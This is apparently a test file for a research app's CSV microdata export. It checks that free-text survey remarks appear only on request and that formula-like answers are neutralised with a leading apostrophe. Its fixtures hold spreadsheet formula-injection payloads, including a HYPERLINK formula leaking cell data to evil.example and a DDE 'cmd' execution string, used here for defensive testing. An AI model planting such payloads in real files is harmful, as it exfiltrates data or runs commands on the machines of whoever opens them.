// Free text in microdata on every dialect: only when asked for, and never as a live spreadsheet formula.
import type { Hono } from 'hono';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importResponses } from '../../../../server/services/projection/import-responses.ts';
import type { ReportService } from '../../../../server/services/reports/report-service.ts';
import { csvLines } from '../../../../server/services/exports/csv-text.ts';
import { researchApp } from '../../../helpers/research-app.ts';
import { testDialects, useTestDatabase } from '../../../helpers/test-databases.ts';
import { validTestAnswers } from '../../../helpers/test-questionnaire.ts';
import { setUpTestStudies, type TestStudies } from '../../../helpers/test-studies.ts';

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
];

async function microdata(app: Hono, query = '') {
  const res = await app.request(`/api/studies/open-study/microdata.csv${query}`);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  return Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  });
}

describe.each(testDialects())('free text in microdata on $dialect', (dialect) => {
  const t = useTestDatabase(dialect);
  let studies: TestStudies;
  let app: Hono;
  let reports: ReportService;

  beforeAll(async () => {
    studies = await setUpTestStudies(t.db);
    await importResponses(
      t.db,
      studies.questionnaires,
      studies.openWave.id,
      hostile.map((remarks, i) => ({
        agencyCode: i % 2 === 0 ? 'kab-sleman' : 'prov-jambi',
        answers: { ...validTestAnswers, remarks },
        submittedOn: '2021-09-03',
      })),
    );
    ({ app, reports } = researchApp(t.db, t.config, studies.questionnaires));
  });
  afterAll(() => reports.close());

  it('leaves free text out unless ?freeText=true', async () => {
    const plain = await microdata(app);
    expect(plain.meta.fields).not.toContain('remarks');
    expect(plain.data).toHaveLength(hostile.length);
    const withText = await microdata(app, '?freeText=true');
    expect(withText.meta.fields).toContain('remarks');
  });

  it('neutralises every formula-looking answer so a spreadsheet shows it as text', async () => {
    const { data } = await microdata(app, '?freeText=true');
    const remarks = data.map((row) => row.remarks).sort();
    expect(remarks).toEqual(hostile.map((text) => `'${text}`).sort());
  });

  it('keeps numbers numbers (a plain decimal is no formula) while neutralising formula text', () => {
    expect(csvLines([[-0.25, '-0.25', '=1+1', '-1+2', 3]])).toBe(
      `-0.25,-0.25,"'=1+1","'-1+2",3\r\n`,
    );
  });
});
